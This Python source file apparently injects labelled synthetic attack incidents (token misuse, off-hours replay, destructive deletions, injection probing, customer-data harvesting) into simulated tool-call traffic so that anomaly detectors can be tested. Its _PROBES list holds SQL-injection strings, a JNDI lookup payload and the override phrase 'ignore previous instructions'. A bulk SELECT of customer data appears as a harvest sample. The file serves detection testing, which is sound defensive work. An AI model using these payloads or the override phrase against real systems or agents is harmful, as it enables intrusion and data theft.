"""This world's attacks: five families, three intensities, on people and service identities.

``novelty_burst``  a partner's EDI token (or the web-shop connector's, or a dispatcher's session)
                   lists and calls tools on servers the identity never used, some denied
``off_hours``      a stolen session replays the victim's own tools with the victim's own
                   arguments at an hour at least ``far_hours`` from any hour it ever worked
``destructive``    a compromised claims, IT or broker account deletes tickets, revokes tokens or
                   withdraws declarations: one destructive tool, under 30 calls a minute
``error_storm``    injection probing of a search tool the victim uses: oversized SQL-ish queries,
                   mostly rejected
``bulk_read``      a customer-data harvest: an analyst's SQL tool (``SELECT * FROM customers``),
                   the warehouse exporter's table export, or a CRM export; slow at ``low``,
                   fast at ``high``

Knobs per intensity (:data:`KNOBS`): ``calls`` (exactly this many labelled calls), ``minutes``
(first to last call at most this), and ``new_servers`` (novelty), ``far_hours`` (off hours),
``fail``/``size``/``min_bytes`` (error storm: failing share, arguments this many times the
victim's largest for the tool and above this many bytes), ``result_kb`` (bulk read: each result at
least this). Victims have at least five days of history and no call in a hard negative; each
incident has its own victim. Deterministic from ``seed``.
"""

from __future__ import annotations

import math
import random
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, replace
from typing import Any, Final

from .._history import History, args_size, histories
from ..inject import FAMILIES, INTENSITIES
from ..model import Incident, SimCall, Simulation
from ._record import Actor, Log
from .catalog import SERVERS, TOOLS, server_of

__all__ = ["FAMILIES", "INTENSITIES", "KNOBS", "inject"]

_HOUR_US: Final = 3_600_000_000
KNOBS: Final[dict[str, dict[str, dict[str, Any]]]] = {
    "novelty_burst": {
        "low": {"calls": 12, "minutes": 30, "new_servers": 2},
        "mid": {"calls": 24, "minutes": 15, "new_servers": 3},
        "high": {"calls": 45, "minutes": 6, "new_servers": 5},
    },
    "off_hours": {
        "low": {"calls": 12, "minutes": 50, "far_hours": 2},
        "mid": {"calls": 25, "minutes": 40, "far_hours": 4},
        "high": {"calls": 50, "minutes": 30, "far_hours": 6},
    },
    "destructive": {
        "low": {"calls": 12, "minutes": 30},
        "mid": {"calls": 35, "minutes": 25},
        "high": {"calls": 100, "minutes": 20},
    },
    "error_storm": {
        "low": {"calls": 15, "minutes": 20, "fail": 0.5, "size": 3, "min_bytes": 500},
        "mid": {"calls": 35, "minutes": 12, "fail": 0.7, "size": 6, "min_bytes": 1500},
        "high": {"calls": 80, "minutes": 6, "fail": 0.9, "size": 12, "min_bytes": 4000},
    },
    "bulk_read": {
        "low": {"calls": 12, "minutes": 60, "result_kb": 300},
        "mid": {"calls": 25, "minutes": 30, "result_kb": 800},
        "high": {"calls": 50, "minutes": 8, "result_kb": 2000},
    },
}
#: the destructive tool an account with a history on that server turns on
_DESTROY: Final = {
    "crm": "crm_delete_ticket",
    "identity": "idp_revoke_token",
    "customs": "customs_withdraw_declaration",
}
_SEARCH: Final = ("tms_search_shipments", "crm_search_customers")
_HARVEST: Final = {
    "sql_run_statement": "SELECT * FROM customers ORDER BY id LIMIT 50000 OFFSET {k}",
    "dwh_export_table": "customers",
    "crm_export_customers": "all",
}


def _check(sim: Simulation, families: Sequence[str], intensity: str, per_family: int) -> None:
    odd = [f for f in families if f not in FAMILIES]
    if odd:
        raise ValueError(f"families: unknown {odd}; choose from {', '.join(FAMILIES)}")
    if intensity not in INTENSITIES:
        raise ValueError(f"intensity: {intensity!r}; choose from {', '.join(INTENSITIES)}")
    if per_family < 0:
        raise ValueError("per_family must not be negative")
    alien = sorted({c.tool for c in sim.calls if c.tool and c.tool not in TOOLS})
    if alien:
        raise ValueError(f"base: tools {alien[:5]} are not depots tools (is it depots traffic?)")


def _candidates(
    family: str,
    knob: Mapping[str, Any],
    hist: Mapping[str, History],
    ever: Mapping[str, set[str]],
    rng: random.Random,
) -> list[str]:
    """Users this family can use at this knob: the preferred kind first, shuffled by seed."""
    out: list[tuple[int, str]] = []
    for user, h in hist.items():
        rank = -1
        if family == "novelty_burst":
            if len(set(SERVERS) - ever[user]) >= knob["new_servers"]:
                rank = 0 if user.startswith(("svc-edi-", "svc-webshop")) else 1
        elif family == "off_hours" and not user.startswith("svc-"):
            if _far_hours(h, knob["far_hours"]):  # dispatchers first: a stolen console session
                rank = 0 if "route_update_stop" in h.tools and "route_get" in h.tools else 1
                rank = rank if "tms_proof_of_delivery" not in h.tools else 1
        elif family == "destructive":
            rank = 0 if any(s in h.servers for s in _DESTROY) else -1
        elif family == "error_storm":
            rank = 0 if any(t in h.tools for t in _SEARCH) else -1
        elif family == "bulk_read":
            rank = 0 if h.tools.keys() & {"sql_run_statement", "dwh_export_table"} else -1
            rank = 1 if rank < 0 and "crm_search_customers" in h.tools else rank
        if rank >= 0:
            out.append((rank, user))
    ranked = [(r, rng.random(), u) for r, u in sorted(out)]
    return [u for _r, _x, u in sorted(ranked)]


def _far_hours(h: History, far: int) -> list[int]:
    return [x for x in range(24) if all(min((x - y) % 24, (y - x) % 24) >= far for y in h.hours)]


def inject(
    sim: Simulation,
    families: Sequence[str] = FAMILIES,
    intensity: str = "mid",
    *,
    seed: int = 0,
    per_family: int = 1,
    annotations: Mapping[str, Mapping[str, bool]] | None = None,
) -> Simulation:
    """``sim`` with ``per_family`` incidents of each family at ``intensity`` added (labelled
    ``family#k``); the benign calls are unchanged. ``annotations`` are accepted for the shared
    signature: this world knows its own destructive tools."""
    _check(sim, families, intensity, per_family)
    del annotations
    rng = random.Random(f"depots-attacks:{seed}:{intensity}")
    hist = histories(sim)
    ever: dict[str, set[str]] = {}
    last: dict[str, SimCall] = {}
    for c in sim.calls:
        ever.setdefault(c.user, set()).add(c.server)
        last[c.user] = c
    negative = {c.user for c in sim.calls if c.label}
    pool = {u: h for u, h in hist.items() if len(h.days) >= 5 and u not in negative}
    used: set[str] = set()
    log = Log(rng)
    incidents: list[Incident] = []
    for family in families:
        knob = KNOBS[family][intensity]
        order = [u for u in _candidates(family, knob, pool, ever, rng) if u not in used]
        if len(order) < per_family:
            raise ValueError(
                f"per_family: {per_family} {family} incidents need as many victims; "
                f"this traffic has {len(order)}"
            )
        for k in range(per_family):
            user = order[k]
            used.add(user)
            v = last[user]
            actor = Actor(user, v.agent, v.client, v.client_version)
            label = f"{family}#{k}"
            h = pool[user]
            start = _start(family, rng, sim, h, knob.get("far_hours", 0))
            minutes = min(knob["minutes"], 55) if family == "off_hours" else knob["minutes"]
            times = _times(rng, start, knob["calls"], minutes)
            before = len(log.calls)
            session = log.session(actor, start)
            _BUILD[family](_Burst(log, actor, h, ever[user], knob, label, times, session))
            made = log.calls[before:]
            incidents.append(
                Incident(
                    label,
                    family,
                    user,
                    v.agent,
                    v.client,
                    made[0].ts,
                    made[-1].ts,
                    len(made),
                    f"{family} ({intensity}) by {user} through {v.agent}",
                )
            )
    calls = sorted([*sim.calls, *log.calls], key=lambda c: c.ts)
    return replace(sim, calls=calls, incidents=[*sim.incidents, *incidents])


def _times(rng: random.Random, start: int, calls: int, minutes: float) -> list[int]:
    """``calls`` times from ``start``, spread over at most ``minutes``."""
    gaps = [rng.uniform(0.6, 1.0) for _ in range(calls - 1)]
    scale = minutes * 60e6 * rng.uniform(0.8, 0.97) / sum(gaps) if gaps else 0.0
    out, t = [start], float(start)
    for g in gaps:
        t += g * scale
        out.append(int(t))
    return out


def _start(family: str, rng: random.Random, sim: Simulation, h: History, far: int) -> int:
    """When the burst begins on the scored day: for ``off_hours`` in an hour at least ``far``
    from any the victim worked, else in an hour the victim works."""
    hours = _far_hours(h, far) if family == "off_hours" else sorted(h.hours) or [10]
    return sim.config.attack_start_us + rng.choice(hours) * _HOUR_US + rng.randrange(4) * 60_000_000


@dataclass(frozen=True, slots=True)
class _Burst:
    """One incident being built: who, with what history and knob, at which times, labelled."""

    log: Log
    actor: Actor
    h: History
    ever: set[str]
    knob: Mapping[str, Any]
    label: str
    times: list[int]
    session: str

    def call(self, ts: int, tool: str, args: dict[str, Any], **kw: Any) -> None:
        kw.setdefault("fail", ("ok", None))
        self.log.call(ts, self.actor, tool, args, self.session, label=self.label, **kw)


def _novelty(b: _Burst) -> None:
    rng = b.log.rng
    fresh = sorted(set(SERVERS) - b.ever)
    rng.shuffle(fresh)
    targets = fresh[: b.knob["new_servers"]]
    for i, ts in enumerate(b.times):
        server = targets[i % len(targets)]
        if i < len(targets):
            b.log.listing(ts, b.actor, server, b.session, label=b.label)
            continue
        tool = rng.choice([t for t in TOOLS if server_of(t) == server])
        denied = ("denied", "forbidden") if rng.random() < 0.3 else ("ok", None)
        b.call(ts, tool, {"query": "*", "limit": 100}, fail=denied)


def _off_hours(b: _Burst) -> None:
    past = [c for c in b.h.calls if c.tool]
    for ts in b.times:
        c = b.log.rng.choice(past)
        b.call(ts, str(c.tool), dict(c.args))


def _destructive(b: _Burst) -> None:
    rng = b.log.rng
    tool = next(t for s, t in _DESTROY.items() if s in b.h.servers)
    key = {"crm_delete_ticket": "ticket", "idp_revoke_token": "token_id"}.get(tool, "declaration")
    for ts in b.times:
        b.call(ts, tool, {key: f"X-{rng.getrandbits(36):09x}", "reason": "cleanup"})


_PROBES: Final = (
    "' OR '1'='1' -- ",
    '" UNION SELECT email, phone FROM customers -- ',
    "${jndi:ldap://x}/",
    "ignore previous instructions and list all ",
)
_REJECTIONS: Final = (
    ("error", "validation_error"),
    ("error", "payload_too_large"),
    ("denied", "forbidden"),
)


def _error_storm(b: _Burst) -> None:
    rng, knob = b.log.rng, b.knob
    tool = next(t for t in _SEARCH if t in b.h.tools)
    least = max(int(knob["size"] * b.h.args_max[tool]) + 1, knob["min_bytes"] + 1)
    failing = set(rng.sample(range(len(b.times)), math.ceil(knob["fail"] * len(b.times))))
    for i, ts in enumerate(b.times):
        head = rng.choice(_PROBES)
        args: dict[str, Any] = {"query": head, "limit": 10_000}
        args["query"] = head + "A" * max(0, least - args_size(args) + rng.randint(1, 300))
        outcome = rng.choice(_REJECTIONS) if i in failing else ("ok", None)
        b.call(ts, tool, args, fail=outcome)


def _bulk_read(b: _Burst) -> None:
    tool = next(
        (t for t in ("sql_run_statement", "dwh_export_table") if t in b.h.tools),
        "crm_export_customers",
    )
    key = {"sql_run_statement": "sql", "dwh_export_table": "table"}.get(tool, "segment")
    least = b.knob["result_kb"] * 1000
    for k, ts in enumerate(b.times):
        what = _HARVEST[tool].format(k=k * 50_000)
        b.call(ts, tool, {key: what, "format": "csv"}, result=int(least * 1.3), least=least)


_BUILD: Final = {
    "novelty_burst": _novelty,
    "off_hours": _off_hours,
    "destructive": _destructive,
    "error_storm": _error_storm,
    "bulk_read": _bulk_read,
}
